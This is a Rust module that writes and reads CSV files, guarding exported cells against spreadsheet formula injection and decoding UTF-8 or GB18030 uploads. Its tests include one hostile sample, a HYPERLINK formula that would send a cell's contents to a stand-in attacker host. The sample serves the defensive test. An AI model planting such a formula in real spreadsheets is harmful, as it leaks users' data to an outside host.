//! Every CSV the service writes: UTF-8 with a byte-order mark (so Excel and WPS open it as
//! UTF-8), and every cell that a spreadsheet would run as a formula neutralized with a
//! leading apostrophe (OWASP CSV injection guidance). Reading a file back removes that
//! apostrophe again, and accepts UTF-8 (with or without BOM) or GB18030/GBK, which is what
//! Excel saves on a Chinese Windows.

use std::borrow::Cow;

pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The characters a spreadsheet takes as the start of a formula.
fn starts_a_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// The cell as written: a leading apostrophe when it would start a formula.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if starts_a_formula(c) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// The cell as it was before [`neutralize`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.chars().next().is_some_and(starts_a_formula) => rest,
        _ => cell,
    }
}

/// Writes `header` and `rows` as CSV: BOM first, formulas neutralized.
pub fn write<I, R, S>(header: &[&str], rows: I) -> Result<Vec<u8>, csv::Error>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut writer = csv::Writer::from_writer(BOM.to_vec());
    writer.write_record(header.iter().map(|h| neutralize(h).into_owned()))?;
    for row in rows {
        writer.write_record(row.into_iter().map(|c| neutralize(c.as_ref()).into_owned()))?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

/// The text of an uploaded file: UTF-8 (a BOM is dropped), else GB18030 (which covers GBK);
/// `None` when it is neither.
pub fn decode(bytes: &[u8]) -> Option<Cow<'_, str>> {
    let bytes = bytes.strip_prefix(BOM).unwrap_or(bytes);
    if let Ok(text) = std::str::from_utf8(bytes) {
        return Some(Cow::Borrowed(text));
    }
    encoding_rs::GB18030
        .decode_without_bom_handling_and_without_replacement(bytes)
        .map(|text| Cow::Owned(text.into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralized_and_restored() {
        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
        assert_eq!(neutralize(evil), format!("'{evil}"));
        for cell in ["+8613800000000", "-开头", "@SUM(A1)", "\tx", "\rx"] {
            assert!(neutralize(cell).starts_with('\''), "{cell:?}");
            assert_eq!(restore(&neutralize(cell)), cell);
        }
        for cell in ["王老师", "13800000000", "", "'引号开头"] {
            assert_eq!(neutralize(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }

    #[test]
    fn written_files_start_with_a_bom_and_hold_no_live_formula() {
        let bytes = write(&["a", "b"], [["=1+1", "ok"]]).unwrap();
        assert!(bytes.starts_with(BOM));
        let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
        assert_eq!(text, "a,b\n'=1+1,ok\n");
    }

    #[test]
    fn utf8_and_gb18030_files_both_decode() {
        let text = "姓名,电话\n王老师,+86\n";
        assert_eq!(decode(text.as_bytes()).unwrap(), text);
        let with_bom = [BOM, text.as_bytes()].concat();
        assert_eq!(decode(&with_bom).unwrap(), text);
        let (gbk, _, _) = encoding_rs::GB18030.encode(text);
        assert_eq!(decode(&gbk).unwrap(), text);
        assert!(decode(b"\xff\xfe\xfd\x80\x81").is_none());
    }
}
